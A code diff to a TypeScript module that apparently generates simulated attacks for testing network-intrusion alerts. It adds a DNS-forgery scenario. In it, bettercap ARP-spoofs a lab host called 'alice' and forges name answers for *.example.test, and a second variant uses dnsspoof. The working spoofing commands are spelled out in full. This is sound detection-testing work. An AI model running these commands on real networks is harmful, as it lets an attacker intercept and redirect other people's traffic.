@@ -1,4 +1,4 @@
-/** Hosts that claim to be a router or a neighbour by IPv6, which they are not. */
+/** Hosts that claim to be a router or a neighbour by IPv6, or a server of names, which they are not. */
 import type { Site } from '../site.ts';
 import type { Attack, Plan } from './attack.ts';
 
@@ -68,6 +68,25 @@ for i in range(6):
   };
 }
 
+/** Alice asks for names; somebody answers in the name of the server, which answers too. */
+function forged(site: Site, command: string): Plan {
+  // dnsspoof knows no question with EDNS.
+  const ask = (name: string) => `dig +noedns +tries=1 +time=1 @${site.address('infra')} ${name}.example.test A > /dev/null; sleep 0.5`;
+  const questions = Array.from({ length: 3 }, () => ['www', 'mail', 'files'].map(ask).join('; ')).join('; ');
+  return {
+    jobs: [
+      { host: 'alice', argv: ['bash', '-c', `sleep 7; ${questions}`] },
+      { host: 'evil', argv: ['bash', '-c', command] },
+    ],
+    // All names have one address here, so nothing says which of the two answers is the forged one.
+    attackers: [],
+    victims: [site.address('alice'), site.address('infra')],
+    seconds: 24,
+  };
+}
+
+const forgery = { class: 'names.forged', alerts: ['names.forged'], technique: 'T1557', speeds } as const;
+
 export const neighbourAttacks: readonly Attack[] = [
   thc('rogue', 'ndp.rogue-router', 'fake_router6', 'T1557', () => 'eth0 fd00:bad::/64'),
   thc('rogue.dns', 'ndp.rogue-router', 'fake_router26', 'T1557', () => '-A fd00:bad::/64 -D fd00:bad::53 eth0'),
@@ -114,5 +133,23 @@ export const neighbourAttacks: readonly Attack[] = [
           `-eval 'set ndp.spoof.targets ${site.address6('alice')}; set ndp.spoof.prefix d00d::; ndp.spoof on; sleep 10; quit'`,
         16,
       ),
+  },
+  {
+    ...forgery,
+    tool: 'bettercap',
+    needs: ['bettercap', 'dig'],
+    plan: (site) =>
+      forged(
+        site,
+        `exec timeout 20 bettercap -no-history -no-colors -iface eth0 -gateway-override ${site.address('gateway')} ` +
+          `-eval 'set dns.spoof.domains *.example.test; set dns.spoof.all true; set arp.spoof.targets ${site.address('alice')}; ` +
+          `set arp.spoof.internal true; arp.spoof on; dns.spoof on; sleep 16; quit'`,
+      ),
+  },
+  {
+    ...forgery,
+    tool: 'dnsspoof',
+    needs: ['dnsspoof', 'dig'],
+    plan: (site) => forged(site, 'exec timeout -s INT 20 dnsspoof -i eth0'),
   },
 ];
